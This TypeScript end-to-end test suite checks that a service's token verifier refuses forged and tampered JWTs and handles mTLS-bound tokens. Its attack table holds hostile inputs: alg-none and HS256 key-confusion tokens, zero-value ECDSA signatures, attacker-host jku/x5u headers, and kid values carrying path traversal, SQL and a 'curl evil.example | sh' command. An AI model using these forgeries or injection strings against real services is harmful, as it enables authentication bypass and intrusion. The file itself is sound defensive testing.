/**
 * Identity end to end, against the real dev OpenID provider (apps/dev-idp, oidc-provider): tokens
 * the IdP issues, tokens signed with the IdP's own private key that carry bad claims or hostile
 * headers, tokens of a second IdP claiming the first one's issuer, mTLS workloads and RFC 8705
 * certificate-bound tokens, all over real HTTPS on loopback with @inference-shield/https in optional-mTLS
 * mode. Every refusal row runs through both enforcement paths: the Shield guard and passport
 * (`@UsePassport`). Logs and audit events are captured and searched for tokens at the end.
 */
import 'reflect-metadata';
import { createHmac, createPublicKey, X509Certificate, type JsonWebKey } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createHttpsApp, type HttpsApp } from '@inference-shield/https';
import { TOKEN_VERIFIER, type TokenVerifier } from '@inference-shield/identity/internal';
import type { JWK } from 'jose';
import { CaptureAuditSink, TokenLedger } from './support/capture.js';
import { startIdp, tokenFromPort, type RunningIdp } from './support/dev-idp.js';
import { startFetchWitness, type FetchWitness } from './support/fetch-witness.js';
import { fixtureModule, ROUTES, type PrincipalAnswer } from './support/fixture-app.js';
import { call, CaptureLogger, type CallResult, type ClientCertificate } from '../support/harness.js';
import { createSharedPki, DEMO_WORKLOAD_SPIFFE_ID, type SharedPki } from './support/idp-pki.js';
import { forgeFromKeysFile, forgeWithFreshKey, type TokenForge } from './support/token-forge.js';

const AUDIENCE = 'https://models.shield.test';
const TEST_CLIENT_ID = 'spiffe://shield.local/test-client';

const root = mkdtempSync(join(tmpdir(), 'identity-e2e-'));
const logger = new CaptureLogger();
const audit = new CaptureAuditSink();
const ledger = new TokenLedger();
const consoleLines: string[] = [];

let shared: SharedPki;
let victim: RunningIdp;
let attacker: RunningIdp;
let witness: FetchWitness;
let forge: TokenForge;
let app: HttpsApp;
let port: number;
let verifier: TokenVerifier;

const b64 = (value: string | Buffer): string => Buffer.from(value).toString('base64url');
const nowS = (): number => Math.floor(Date.now() / 1000);
const idpCert = (c: { certPem: string; keyPem: string }) => ({ cert: c.certPem, key: c.keyPem });

/** The JWKS fetches the app's verifier made for the IdP under test. */
const jwksFetches = (): number => verifier.stats().issuers[victim.idp.issuer]?.jwksFetches ?? -1;

type Path = 'guard' | 'passport';
const PATHS: readonly Path[] = ['guard', 'passport'];
const routeOf = (path: Path): string => (path === 'guard' ? ROUTES.infer : ROUTES.passportInfer);

function post(
  path: string,
  opts: { token?: string; client?: ClientCertificate; headers?: Record<string, string> } = {},
) {
  return call(port, { ca: shared.pki.ca.certPem, path, method: 'POST', ...opts });
}

function expectInvalidToken(r: CallResult, code: string, token?: string): void {
  expect({ status: r.status, code: r.body['code'] }).toEqual({ status: 401, code });
  // RFC 6750 §3.1: a bad token is `invalid_token`; the code travels in error_description.
  expect(r.headers['www-authenticate']).toBe(`Bearer error="invalid_token", error_description="${code}"`);
  if (token !== undefined && token.length > 0) expect(r.text).not.toContain(token);
}

beforeAll(async () => {
  for (const level of ['log', 'info', 'warn', 'error', 'debug'] as const) {
    vi.spyOn(console, level).mockImplementation((...args: unknown[]) => {
      consoleLines.push(args.map(String).join(' '));
    });
  }
  shared = await createSharedPki(root);
  victim = await startIdp(root, 'idp', shared, { audience: AUDIENCE });
  // A second, independent IdP (its own keys) that claims the first one's issuer identifier.
  attacker = await startIdp(root, 'attacker', shared, { audience: AUDIENCE, issuer: victim.idp.issuer });
  witness = await startFetchWitness(shared.pki.server);
  forge = await forgeFromKeysFile(victim.keysFile, { issuer: victim.idp.issuer, audience: AUDIENCE });

  const module = fixtureModule(
    {
      oidc: {
        issuers: [
          {
            // No jwksUri: OpenID discovery at the issuer, over HTTPS trusting only the dev CA.
            issuer: victim.idp.issuer,
            audience: AUDIENCE,
            ca: { pem: victim.idp.caPem },
            requireAccessTokenType: true,
          },
        ],
      },
      mtls: { trustDomains: ['shield.local'] },
      audit: { sink: audit },
    },
    { passport: true },
  );
  app = await createHttpsApp(module, {
    tls: { cert: shared.pki.server.cert, key: shared.pki.server.key },
    mtls: { mode: 'optional', ca: { file: shared.pki.ca.cert }, crl: shared.pki.ca.crl },
    // Large enough that a 40 KB token reaches the guard (whose own limit must refuse it).
    limits: { maxHeaderBytes: 64 * 1024 },
    reload: { watch: false, sighup: false },
    nest: { logger },
  });
  port = (await app.listen(0, '127.0.0.1')).port;
  verifier = app.app.get<TokenVerifier>(TOKEN_VERIFIER);
});

afterAll(async () => {
  await app?.close();
  await Promise.all([victim?.idp.close(), attacker?.idp.close(), witness?.close()]);
  vi.restoreAllMocks();
  rmSync(root, { recursive: true, force: true });
});

describe('tokens issued by the dev IdP', () => {
  it('the app loaded the IdP keys at start-up through discovery (one JWKS fetch)', () => {
    expect(verifier.stats().issuers[victim.idp.issuer]).toMatchObject({ jwksFetches: 1, keys: 1 });
  });

  it('serves the public health route without credentials', async () => {
    const r = await call(port, { ca: shared.pki.ca.certPem, path: ROUTES.health });
    expect(r.status).toBe(200);
    expect(r.body).toEqual({ status: 'ok' });
  });

  it.each(PATHS)('%s: demo-service with models:infer → 200 and its principal', async (path) => {
    const token = ledger.add(await victim.idp.getToken({ clientId: 'demo-service', scope: 'models:infer' }));
    const r = await post(routeOf(path), { token });
    expect(r.status).toBe(200);
    expect(r.body).toEqual({
      method: 'oidc',
      subject: 'demo-service',
      issuer: victim.idp.issuer,
      scopes: ['models:infer'],
      route: path === 'guard' ? 'infer' : 'passport-infer',
    } satisfies PrincipalAnswer);
  });

  it.each(PATHS)(
    '%s: reader (models:read only) → 403 insufficient_scope naming models:infer',
    async (path) => {
      const token = ledger.add(await victim.idp.getToken({ clientId: 'reader', scope: 'models:read' }));
      const r = await post(routeOf(path), { token });
      expect(r.status).toBe(403);
      expect(r.body['code']).toBe('ERR_INSUFFICIENT_SCOPE');
      expect(r.headers['www-authenticate']).toBe('Bearer error="insufficient_scope", scope="models:infer"');
      expect(r.text).not.toContain(token);
    },
  );

  it.each(PATHS)('%s: no credential → 401 with a bare Bearer challenge', async (path) => {
    const r = await post(routeOf(path));
    expect(r.status).toBe(401);
    expect(r.body['code']).toBe('ERR_TOKEN_MISSING');
    expect(r.headers['www-authenticate']).toBe('Bearer');
  });

  it.each(PATHS)(
    '%s: a valid token in the query string or a cookie is not read (401 ERR_TOKEN_MISSING)',
    async (path) => {
      const token = ledger.add(await victim.idp.getToken({ scope: 'models:infer' }));
      const inQuery = await post(`${routeOf(path)}?access_token=${token}`);
      const inCookie = await post(routeOf(path), { headers: { cookie: `access_token=${token}` } });
      for (const r of [inQuery, inCookie]) {
        expect(r.status).toBe(401);
        expect(r.body['code']).toBe('ERR_TOKEN_MISSING');
      }
    },
  );

  it.each(PATHS)(
    '%s: a token forged with the IdP key and default claims is accepted (control for the table)',
    async (path) => {
      const token = ledger.add(await forge.sign());
      const r = await post(routeOf(path), { token });
      expect(r.status).toBe(200);
      expect(r.body['subject']).toBe('demo-service');
    },
  );

  it.each(PATHS)(
    '%s: accepts typ "application/at+jwt" (RFC 9068 §4 allows the full media type)',
    async (path) => {
      const token = ledger.add(await forge.sign({}, { typ: 'application/at+jwt' }));
      expect((await post(routeOf(path), { token })).status).toBe(200);
    },
  );

  it.each(PATHS)('%s: accepts the scheme in any case ("bearer", RFC 7235 §2.1)', async (path) => {
    const token = ledger.add(await victim.idp.getToken({ scope: 'models:infer' }));
    const r = await call(port, {
      path: routeOf(path),
      ca: shared.pki.ca.certPem,
      method: 'POST',
      authorization: `bearer ${token}`,
    });
    expect(r.status).toBe(200);
  });
});

/** What a table row may need to build its token. */
interface AttackContext {
  readonly forge: TokenForge;
  readonly idp: RunningIdp;
  readonly attacker: RunningIdp;
  readonly witnessOrigin: string;
  readonly shared: SharedPki;
}

interface AttackRow {
  readonly name: string;
  readonly code: string;
  /** The row must not make the app fetch anything (header rows: jku, x5u, jwk, x5c). */
  readonly noFetch?: boolean;
  build(ctx: AttackContext): Promise<string>;
}

const claims = (ctx: AttackContext, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  iss: ctx.idp.idp.issuer,
  aud: AUDIENCE,
  sub: 'demo-service',
  client_id: 'demo-service',
  scope: 'models:infer',
  iat: nowS(),
  exp: nowS() + 300,
  jti: `jti-${Math.random().toString(36).slice(2)}`,
  ...extra,
});
const header = (ctx: AttackContext, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  alg: 'ES256',
  typ: 'at+jwt',
  kid: ctx.forge.kid,
  ...extra,
});
const crafted = (
  ctx: AttackContext,
  h: Record<string, unknown>,
  c: Record<string, unknown>,
): Promise<string> => ctx.forge.craft(JSON.stringify(h), JSON.stringify(c));
/** An HS256 token whose HMAC key is `key` (the IdP's public key, in some encoding). */
const hs256 = (ctx: AttackContext, key: string): string => {
  const input = `${b64(JSON.stringify(header(ctx, { alg: 'HS256' })))}.${b64(JSON.stringify(claims(ctx)))}`;
  return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`;
};
const publicPem = (jwk: JWK): string =>
  createPublicKey({ key: jwk as JsonWebKey, format: 'jwk' })
    .export({ type: 'spki', format: 'pem' })
    .toString();

/**
 * docs/threat-model.md "Access tokens", against the real IdP. Unless the name says otherwise, every token is
 * signed with the IdP's own current private key (read from its keys file): the signature is good,
 * only the named property is wrong.
 */
const ATTACKS: readonly AttackRow[] = [
  // Time
  {
    name: 'exp in the past',
    code: 'ERR_TOKEN_EXPIRED',
    build: (c) => c.forge.sign({ iat: nowS() - 900, exp: nowS() - 600 }),
  },
  {
    name: 'nbf in the future',
    code: 'ERR_TOKEN_NOT_YET_VALID',
    build: (c) => c.forge.sign({ nbf: nowS() + 600 }),
  },
  {
    name: 'iat in the future',
    code: 'ERR_TOKEN_ISSUED_IN_FUTURE',
    build: (c) => c.forge.sign({ iat: nowS() + 600, exp: nowS() + 900 }),
  },
  { name: 'exp missing', code: 'ERR_TOKEN_CLAIM_INVALID', build: (c) => c.forge.sign({ exp: undefined }) },
  {
    name: 'exp a string',
    code: 'ERR_TOKEN_CLAIM_INVALID',
    build: (c) => c.forge.sign({ exp: String(nowS() + 300) }),
  },
  // Subject
  { name: 'sub missing', code: 'ERR_TOKEN_CLAIM_INVALID', build: (c) => c.forge.sign({ sub: undefined }) },
  { name: 'sub empty', code: 'ERR_TOKEN_CLAIM_INVALID', build: (c) => c.forge.sign({ sub: '' }) },
  // Audience and issuer
  {
    name: 'aud another service',
    code: 'ERR_TOKEN_AUDIENCE_INVALID',
    build: (c) => c.forge.sign({ aud: 'https://other.shield.test' }),
  },
  {
    name: 'aud a list without ours',
    code: 'ERR_TOKEN_AUDIENCE_INVALID',
    build: (c) => c.forge.sign({ aud: ['https://a.shield.test', 'https://b.shield.test'] }),
  },
  {
    name: 'iss another issuer',
    code: 'ERR_TOKEN_ISSUER_UNKNOWN',
    build: (c) => c.forge.sign({ iss: 'https://evil.example' }),
  },
  {
    name: 'iss with a trailing slash (compared byte for byte)',
    code: 'ERR_TOKEN_ISSUER_UNKNOWN',
    build: (c) => c.forge.sign({ iss: `${c.idp.idp.issuer}/` }),
  },
  {
    name: 'iss an array holding ours',
    code: 'ERR_TOKEN_CLAIM_INVALID',
    build: (c) => c.forge.sign({ iss: [c.idp.idp.issuer] }),
  },
  // RFC 9068 type
  {
    name: 'typ JWT (not an access token)',
    code: 'ERR_TOKEN_TYPE_INVALID',
    build: (c) => c.forge.sign({}, { typ: 'JWT' }),
  },
  { name: 'typ missing', code: 'ERR_TOKEN_TYPE_INVALID', build: (c) => c.forge.sign({}, { typ: undefined }) },
  // Header parameters
  {
    name: 'crit naming a registered claim',
    code: 'ERR_TOKEN_HEADER_UNSUPPORTED',
    build: (c) => c.forge.sign({}, { crit: ['exp'] }),
  },
  {
    name: 'crit naming an unknown extension',
    code: 'ERR_TOKEN_HEADER_UNSUPPORTED',
    build: (c) => c.forge.sign({}, { crit: ['x-shield'], 'x-shield': true }),
  },
  {
    name: 'b64:false (RFC 7797) over an encoded payload',
    code: 'ERR_TOKEN_HEADER_UNSUPPORTED',
    build: (c) => c.forge.sign({}, { b64: false, crit: ['b64'] }),
  },
  {
    name: 'b64:false (RFC 7797) with the payload unencoded',
    code: 'ERR_TOKEN_MALFORMED',
    // The claims JSON as the payload segment, signed over as it is (RFC 7797 §3).
    build: (c) =>
      c.forge.craftUnencoded(
        JSON.stringify(header(c, { b64: false, crit: ['b64'] })),
        JSON.stringify(claims(c)),
      ),
  },
  {
    name: 'jku pointing at an attacker host',
    code: 'ERR_TOKEN_HEADER_UNSUPPORTED',
    noFetch: true,
    build: (c) => c.forge.sign({}, { jku: `${c.witnessOrigin}/jwks.json` }),
  },
  {
    name: 'x5u pointing at an attacker host',
    code: 'ERR_TOKEN_HEADER_UNSUPPORTED',
    noFetch: true,
    build: (c) => c.forge.sign({}, { x5u: `${c.witnessOrigin}/cert.pem` }),
  },
  {
    name: 'jwk header carrying an attacker key (signed with it)',
    code: 'ERR_TOKEN_HEADER_UNSUPPORTED',
    noFetch: true,
    build: async (c) => {
      const evil = await forgeWithFreshKey({ issuer: c.idp.idp.issuer, audience: AUDIENCE }, c.forge.kid);
      return evil.sign({}, { jwk: evil.publicJwk });
    },
  },
  {
    name: 'x5c header carrying a certificate of another CA',
    code: 'ERR_TOKEN_HEADER_UNSUPPORTED',
    noFetch: true,
    build: (c) =>
      c.forge.sign(
        {},
        { x5c: [new X509Certificate(c.shared.pki.otherCa.client.certPem).raw.toString('base64')] },
      ),
  },
  {
    name: 'cty JWT (nested token)',
    code: 'ERR_TOKEN_HEADER_UNSUPPORTED',
    build: (c) => c.forge.sign({}, { cty: 'JWT' }),
  },
  // Duplicate JSON members (JSON.parse keeps the last one)
  {
    name: 'duplicate sub in the claims ({"sub":"demo-service","sub":"admin"})',
    code: 'ERR_TOKEN_DUPLICATE_KEY',
    build: (c) => {
      const json = JSON.stringify(claims(c)).replace(
        '"sub":"demo-service"',
        '"sub":"demo-service","sub":"admin"',
      );
      return c.forge.craft(JSON.stringify(header(c)), json);
    },
  },
  {
    name: 'duplicate alg in the header',
    code: 'ERR_TOKEN_DUPLICATE_KEY',
    build: (c) =>
      c.forge.craft(
        `{"alg":"ES256","alg":"none","typ":"at+jwt","kid":"${c.forge.kid}"}`,
        JSON.stringify(claims(c)),
      ),
  },
  // Size
  {
    name: 'oversized (40 KB, validly signed)',
    code: 'ERR_TOKEN_TOO_LARGE',
    build: (c) => c.forge.sign({ pad: 'x'.repeat(30 * 1024) }),
  },
  // Algorithms and signatures
  {
    name: 'alg none, signature removed',
    code: 'ERR_TOKEN_MALFORMED',
    build: async (c) =>
      `${b64(JSON.stringify(header(c, { alg: 'none' })))}.${b64(JSON.stringify(claims(c)))}.`,
  },
  {
    name: 'alg none with a signature',
    code: 'ERR_TOKEN_ALG_NOT_ALLOWED',
    build: (c) => crafted(c, header(c, { alg: 'none' }), claims(c)),
  },
  {
    name: 'alg nOnE',
    code: 'ERR_TOKEN_ALG_NOT_ALLOWED',
    build: (c) => crafted(c, header(c, { alg: 'nOnE' }), claims(c)),
  },
  {
    name: 'HS256 keyed with the IdP public JWK bytes (key confusion)',
    code: 'ERR_TOKEN_ALG_NOT_ALLOWED',
    build: async (c) => hs256(c, JSON.stringify(c.forge.publicJwk)),
  },
  {
    name: 'HS256 keyed with the IdP public key PEM (key confusion)',
    code: 'ERR_TOKEN_ALG_NOT_ALLOWED',
    build: async (c) => hs256(c, publicPem(c.forge.publicJwk)),
  },
  {
    name: 'claims changed after signing (sub → admin)',
    code: 'ERR_TOKEN_SIGNATURE_INVALID',
    build: async (c) => {
      const [h, , s] = (await c.forge.sign()).split('.');
      return `${h}.${b64(JSON.stringify(claims(c, { sub: 'admin' })))}.${s}`;
    },
  },
  {
    name: 'header swapped, old signature kept',
    code: 'ERR_TOKEN_SIGNATURE_INVALID',
    build: async (c) => {
      const [, p, s] = (await c.forge.sign()).split('.');
      return `${b64(JSON.stringify(header(c, { typ: 'application/at+jwt' })))}.${p}.${s}`;
    },
  },
  {
    name: 'ECDSA psychic signature (r = s = 0)',
    code: 'ERR_TOKEN_SIGNATURE_INVALID',
    build: async (c) => {
      const [h, p] = (await c.forge.sign()).split('.');
      return `${h}.${p}.${b64(Buffer.alloc(64))}`;
    },
  },
  {
    name: 'ECDSA psychic signature (r = s = n, the P-256 order)',
    code: 'ERR_TOKEN_SIGNATURE_INVALID',
    build: async (c) => {
      const [h, p] = (await c.forge.sign()).split('.');
      const n = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');
      return `${h}.${p}.${b64(Buffer.concat([n, n]))}`;
    },
  },
  // kid is a lookup key only
  {
    name: 'kid with path traversal',
    code: 'ERR_TOKEN_KEY_NOT_FOUND',
    build: (c) => c.forge.sign({}, { kid: '../../../../etc/passwd' }),
  },
  {
    name: 'kid with SQL',
    code: 'ERR_TOKEN_KEY_NOT_FOUND',
    build: (c) => c.forge.sign({}, { kid: "' OR '1'='1" }),
  },
  {
    name: 'kid with a shell command',
    code: 'ERR_TOKEN_KEY_NOT_FOUND',
    build: (c) => c.forge.sign({}, { kid: '$(curl https://evil.example)|sh' }),
  },
  { name: 'kid empty', code: 'ERR_TOKEN_MALFORMED', build: (c) => c.forge.sign({}, { kid: '' }) },
  // Other serializations
  {
    name: 'a JWE (five segments)',
    code: 'ERR_TOKEN_MALFORMED',
    build: async () =>
      `${b64('{"alg":"RSA-OAEP-256","enc":"A256GCM"}')}.${b64('k')}.${b64('iv')}.${b64('ct')}.${b64('tag')}`,
  },
  {
    name: 'JWS JSON serialization',
    code: 'ERR_TOKEN_MALFORMED',
    build: async (c) => {
      const [h, p, s] = (await c.forge.sign()).split('.');
      return JSON.stringify({ protected: h, payload: p, signature: s });
    },
  },
  // Claims we cannot honour
  {
    name: 'cnf with a DPoP key thumbprint (jkt), sent as a bearer token',
    code: 'ERR_TOKEN_CLAIM_INVALID',
    build: (c) => c.forge.sign({ cnf: { jkt: 'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs' } }),
  },
  { name: 'scope a number', code: 'ERR_TOKEN_CLAIM_INVALID', build: (c) => c.forge.sign({ scope: 42 }) },
  // Issuer mix-up
  {
    name: 'issuer mix-up: a real token of a second IdP claiming our issuer',
    code: 'ERR_TOKEN_KEY_NOT_FOUND',
    build: (c) =>
      tokenFromPort(c.attacker.idp.port, c.attacker.idp.caPem, {
        clientId: 'demo-service',
        scope: 'models:infer',
      }),
  },
  {
    name: 'issuer mix-up: the second IdP key under our kid',
    code: 'ERR_TOKEN_SIGNATURE_INVALID',
    build: async (c) => {
      const evil = await forgeFromKeysFile(c.attacker.keysFile, {
        issuer: c.idp.idp.issuer,
        audience: AUDIENCE,
      });
      return evil.sign({}, { kid: c.forge.kid });
    },
  },
];

const CASES = ATTACKS.flatMap((row) => PATHS.map((path) => [row.name, path, row.code] as const));

describe(`attack table (${ATTACKS.length} rows × ${PATHS.length} paths = ${CASES.length} cases): 401 with the row's code`, () => {
  it.each(CASES)('%s [%s] → %s', async (name, path, code) => {
    const row = ATTACKS.find((r) => r.name === name);
    if (!row) throw new Error(`no row ${name}`);
    const before = jwksFetches();
    const token = ledger.add(
      await row.build({ forge, idp: victim, attacker, witnessOrigin: witness.origin, shared }),
    );
    const r = await post(routeOf(path), { token });
    expectInvalidToken(r, code, token);
    // No row ever makes the app contact a URL named by the token.
    expect(witness.connections()).toBe(0);
    if (row.noFetch) expect(jwksFetches()).toBe(before);
  });

  it('the issuer mix-up token really comes from the second IdP (its own kid, our issuer)', async () => {
    const token = ledger.add(
      await tokenFromPort(attacker.idp.port, attacker.idp.caPem, {
        clientId: 'demo-service',
        scope: 'models:infer',
      }),
    );
    const [h, p] = token.split('.') as [string, string];
    expect(JSON.parse(Buffer.from(h, 'base64url').toString())).toMatchObject({
      kid: attacker.idp.signingKid,
    });
    expect(attacker.idp.signingKid).not.toBe(victim.idp.signingKid);
    expect(JSON.parse(Buffer.from(p, 'base64url').toString())).toMatchObject({
      iss: victim.idp.issuer,
      aud: AUDIENCE,
    });
  });
});

describe('mTLS callers and certificate-bound tokens (optional mTLS)', () => {
  it('a dev-PKI workload certificate reaches the mTLS route without a token → 200, principal method mtls', async () => {
    const r = await post(ROUTES.inferMtls, { client: shared.pki.client });
    expect(r.status).toBe(200);
    expect(r.body).toEqual({
      method: 'mtls',
      subject: TEST_CLIENT_ID,
      issuer: expect.stringContaining('Shield Test CA'),
      scopes: [],
      spiffeId: TEST_CLIENT_ID,
      certificateFingerprint: shared.pki.client.fingerprint256,
      route: 'infer-mtls',
    });
  });

  it('the same route still takes an OIDC token', async () => {
    const token = ledger.add(await victim.idp.getToken({ scope: 'models:infer' }));
    const r = await post(ROUTES.inferMtls, { token });
    expect(r.status).toBe(200);
    expect(r.body['method']).toBe('oidc');
  });

  it('a certificate alone does not open a token-only route → 401 ERR_TOKEN_MISSING', async () => {
    const r = await post(ROUTES.infer, { client: shared.pki.client });
    expect(r.status).toBe(401);
    expect(r.body['code']).toBe('ERR_TOKEN_MISSING');
  });

  it.each([
    ['another CA (same SPIFFE ID)', () => shared.pki.otherCa.client],
    ['a revoked certificate (CRL)', () => shared.pki.revoked.client],
    ['an expired certificate', () => shared.pki.expired.client],
    ['a certificate not yet valid', () => shared.pki.notYetValid.client],
    ['a certificate without clientAuth (wrong EKU)', () => shared.pki.wrongEku.client],
    ['a trust domain the module does not accept', () => shared.pki.identities.otherTrustDomain],
    ['two SPIFFE IDs (no X509-SVID identity)', () => shared.pki.identities.twoSpiffe],
    ['an invalid SPIFFE ID (uppercase trust domain)', () => shared.pki.identities.invalidSpiffe],
    ['no SPIFFE ID at all', () => shared.pki.identities.noSpiffe],
  ] as const)(
    '%s → 401 ERR_CLIENT_CERT_INVALID (the handshake is allowed in optional mode)',
    async (_n, pick) => {
      const r = await post(ROUTES.inferMtls, { client: pick() });
      expect(r.status).toBe(401);
      expect(r.body['code']).toBe('ERR_CLIENT_CERT_INVALID');
    },
  );

  it('a bad token is never excused by a good certificate → 401 for the token', async () => {
    const token = ledger.add(await forge.sign({ exp: nowS() - 600, iat: nowS() - 900 }));
    const r = await post(ROUTES.inferMtls, { token, client: shared.pki.client });
    expectInvalidToken(r, 'ERR_TOKEN_EXPIRED', token);
  });

  describe('demo-workload-mtls (tls_client_auth at the IdP, token bound to spiffe://shield.local/demo)', () => {
    let bound: string;
    beforeAll(async () => {
      bound = ledger.add(
        await victim.idp.getToken({
          clientId: 'demo-workload-mtls',
          scope: 'models:infer',
          clientCertificate: idpCert(shared.demo),
        }),
      );
    });

    it('with the same client certificate → 200, bound principal', async () => {
      const r = await post(ROUTES.inferBound, { token: bound, client: shared.demo });
      expect(r.status).toBe(200);
      expect(r.body).toMatchObject({
        method: 'oidc',
        subject: 'demo-workload-mtls',
        certificateFingerprint: shared.demo.fingerprint256,
      });
    });

    it.each(PATHS)(
      '%s: with a different client certificate → 401 ERR_TOKEN_BINDING_MISMATCH',
      async (path) => {
        const r = await post(routeOf(path), { token: bound, client: shared.pki.client });
        expectInvalidToken(r, 'ERR_TOKEN_BINDING_MISMATCH', bound);
      },
    );

    it.each(PATHS)(
      '%s: with no client certificate (a stolen token) → 401 ERR_TOKEN_BINDING_MISMATCH',
      async (path) => {
        const r = await post(routeOf(path), { token: bound });
        expectInvalidToken(r, 'ERR_TOKEN_BINDING_MISMATCH', bound);
      },
    );

    it.each(PATHS)('%s: with the same certificate on a plain token route → 200', async (path) => {
      const r = await post(routeOf(path), { token: bound, client: shared.demo });
      expect(r.status).toBe(200);
      expect(r.body['subject']).toBe('demo-workload-mtls');
    });

    it('the demo certificate carries the SPIFFE ID the IdP requires', () => {
      expect(new X509Certificate(shared.demo.certPem).subjectAltName).toContain(DEMO_WORKLOAD_SPIFFE_ID);
    });
  });

  describe('demo-service-bound (secret at the IdP, token bound to the certificate it presented)', () => {
    let bound: string;
    beforeAll(async () => {
      bound = ledger.add(
        await victim.idp.getToken({
          clientId: 'demo-service-bound',
          scope: 'models:infer',
          clientCertificate: idpCert(shared.pki.client),
        }),
      );
    });

    it('with the same client certificate → 200', async () => {
      const r = await post(ROUTES.inferBound, { token: bound, client: shared.pki.client });
      expect(r.status).toBe(200);
      expect(r.body).toMatchObject({
        subject: 'demo-service-bound',
        certificateFingerprint: shared.pki.client.fingerprint256,
      });
    });

    it('with another certificate (the demo workload) → 401 ERR_TOKEN_BINDING_MISMATCH', async () => {
      const r = await post(ROUTES.inferBound, { token: bound, client: shared.demo });
      expectInvalidToken(r, 'ERR_TOKEN_BINDING_MISMATCH', bound);
    });

    it('an unbound token on the bound-token route → 401 ERR_TOKEN_BINDING_REQUIRED', async () => {
      const token = ledger.add(await victim.idp.getToken({ scope: 'models:infer' }));
      const r = await post(ROUTES.inferBound, { token, client: shared.pki.client });
      expectInvalidToken(r, 'ERR_TOKEN_BINDING_REQUIRED', token);
    });
  });
});

describe('start-up against an IdP that cannot be trusted (fail closed)', () => {
  /** Boots a second app (no passport: one per process) and returns why it refused to start. */
  async function bootError(issuer: { issuer: string; ca?: { pem: string } }): Promise<unknown> {
    const module = fixtureModule({
      oidc: { issuers: [{ audience: AUDIENCE, requireAccessTokenType: true, ...issuer }] },
      mtls: { trustDomains: ['shield.local'] },
    });
    try {
      const started = await createHttpsApp(module, {
        tls: { cert: shared.pki.server.cert, key: shared.pki.server.key },
        reload: { watch: false, sighup: false },
        nest: { logger, abortOnError: false },
      });
      try {
        await started.listen(0, '127.0.0.1');
      } finally {
        await started.close();
      }
    } catch (err) {
      return err;
    }
    throw new Error('the app started');
  }

  it('the IdP certificate is not trusted (no "ca": system roots only) → the app does not start', async () => {
    const err = await bootError({ issuer: victim.idp.issuer });
    expect(err).toMatchObject({ code: 'ERR_KEYSET_UNAVAILABLE' });
    // The operator's message names the TLS failure (e.g. SELF_SIGNED_CERT_IN_CHAIN).
    expect(String((err as Error).message)).toMatch(/CERT/);
  });

  it('discovery answers another issuer than the one configured (OIDC Discovery §4.3) → the app does not start', async () => {
    // The second IdP serves, at its own origin, metadata claiming the first IdP's issuer.
    const err = await bootError({
      issuer: `https://localhost:${attacker.idp.port}`,
      ca: { pem: attacker.idp.caPem },
    });
    expect(err).toMatchObject({ code: 'ERR_KEYSET_UNAVAILABLE' });
    expect(String((err as Error).message)).toMatch(/issuer/);
  });
});

describe('logs and audit (every request of this file went through a capturing logger and sink)', () => {
  it('recorded audit events for allow and deny on both paths, naming who and the code, never a token', () => {
    const infer = 'POST /v1/models/:model/infer';
    const passport = 'POST /passport/v1/models/:model/infer';
    for (const route of [infer, passport]) {
      expect(audit.events).toContainEqual(
        expect.objectContaining({ decision: 'allow', route, method: 'oidc', subject: 'demo-service' }),
      );
      expect(audit.events).toContainEqual(
        expect.objectContaining({ decision: 'deny', route, code: 'ERR_TOKEN_HEADER_UNSUPPORTED' }),
      );
      expect(audit.events).toContainEqual(
        expect.objectContaining({
          decision: 'deny',
          route,
          code: 'ERR_INSUFFICIENT_SCOPE',
          subject: 'reader',
        }),
      );
    }
    expect(audit.events).toContainEqual(
      expect.objectContaining({ decision: 'allow', method: 'mtls', spiffeId: TEST_CLIENT_ID }),
    );
  });

  it('no log line, audit line or console line holds a token, its payload, or 16 characters of its signature', () => {
    expect(ledger.size).toBeGreaterThan(CASES.length);
    // The capture is wired: Nest's own start-up lines (routes mapped) went through it.
    expect(logger.lines.some((l) => l.includes('Mapped {/v1/models/:model/infer, POST}'))).toBe(true);
    const lines = [...logger.lines, ...audit.lines, ...consoleLines];
    expect(ledger.leaks(lines)).toEqual([]);
  });
});
